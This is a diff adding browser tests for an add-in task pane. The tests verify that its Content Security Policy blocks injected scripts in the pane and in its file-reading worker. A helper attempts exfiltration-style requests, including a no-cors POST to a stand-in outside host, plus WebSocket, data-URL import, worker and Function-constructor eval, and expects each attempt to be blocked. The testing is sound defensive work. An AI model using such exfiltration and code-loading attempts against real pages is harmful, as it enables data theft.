@@ -1,0 +1,98 @@
+import { strict as assert } from "node:assert";
+import { zhCN } from "../../src/taskpane/strings/zh-CN";
+import { reportDocument } from "../../src/write/report-document";
+import { reportFile } from "../../src/write/report-file";
+import { numberedReport } from "../write/reports";
+import { browserCase, type CaseOptions } from "./cases";
+import { drop } from "./drop-file";
+import { WorkbenchPage } from "./workbench-page";
+
+const elsewhere = "https://example.invalid/";
+
+/**
+ * Tries every way in which a script that got in could send what it knows, or load more of itself. Runs within the
+ * pane's page or its worker.
+ * @param own where the pane's files are, ending in a slash
+ * @param other a place that is not the pane's
+ * @returns what the policy there stopped: addresses, "data" and "eval"
+ */
+async function stoppedHere({ own, other }: { own: string; other: string }): Promise<string[]> {
+  const stopped: string[] = [];
+  addEventListener("securitypolicyviolation", ({ blockedURI }) => stopped.push(blockedURI));
+  const attempts: (() => unknown)[] = [
+    () => fetch(`${own}fetch`),
+    () => fetch(`${other}fetch`, { method: "POST", mode: "no-cors", body: "382" }),
+    () => {
+      const request = new XMLHttpRequest();
+      request.open("GET", `${own}request`);
+      request.send();
+    },
+    () => new WebSocket(`${own.replace("http", "ws")}socket`),
+    () => new EventSource(`${own}events`),
+    () => import(`data:text/javascript,${Date.now()}`),
+    () => new Worker(`${own}worker`),
+    () =>
+      Reflect.construct(Reflect.get(globalThis, "Function") as () => void, ["return 1"]) as unknown,
+  ];
+  for (const attempt of attempts) {
+    await new Promise((tried) => {
+      // Later, because what a debugger runs at once may make code of text.
+      setTimeout(() => {
+        void (async () => attempt())()
+          .catch(() => undefined)
+          .finally(() => setTimeout(tried));
+      });
+    });
+  }
+  await new Promise((reported) => setTimeout(reported, 100));
+  return stopped;
+}
+
+/** What {@link stoppedHere} has to answer where the policy holds. */
+function everyAttempt(own: string): readonly string[] {
+  return [
+    `${own}fetch`,
+    `${elsewhere}fetch`,
+    `${own}request`,
+    `${own.replace("http", "ws")}socket`,
+    `${own}events`,
+    "data",
+    `${own}worker`,
+    "eval",
+  ];
+}
+
+const told: CaseOptions = { expectedErrors: /Content Security Policy|Refused to/ };
+
+browserCase(
+  "a script that got into the pane can send nothing and load nothing",
+  async (browser) => {
+    await WorkbenchPage.open(browser);
+    const pane = browser.page.frame({ url: /taskpane\.html/ });
+    assert.ok(pane);
+    const stopped = await pane.evaluate(stoppedHere, { own: browser.site, other: elsewhere });
+    assert.deepEqual(stopped, everyAttempt(browser.site));
+  },
+  told
+);
+
+browserCase(
+  "what reads a file beside the pane is held by the pane's policy",
+  async (browser) => {
+    const { page, site } = browser;
+    await page.addInitScript(() => {
+      // So that it can still be asked when it has read.
+      Worker.prototype.terminate = () => undefined;
+    });
+    const { pane } = await WorkbenchPage.open(browser);
+    await pane.getByRole("button", { name: zhCN.import.previous.open }).click();
+    await pane.getByRole("button", { name: zhCN.import.choose }).waitFor();
+    const started = page.waitForEvent("worker");
+    await drop(pane, await reportFile(reportDocument(numberedReport("2021")), "docx"));
+    const worker = await started;
+    await pane.getByRole("button", { name: zhCN.import.choose }).waitFor({ state: "detached" });
+    const stopped = await worker.evaluate(stoppedHere, { own: site, other: elsewhere });
+    assert.deepEqual(stopped, everyAttempt(site));
+  },
+  told
+);
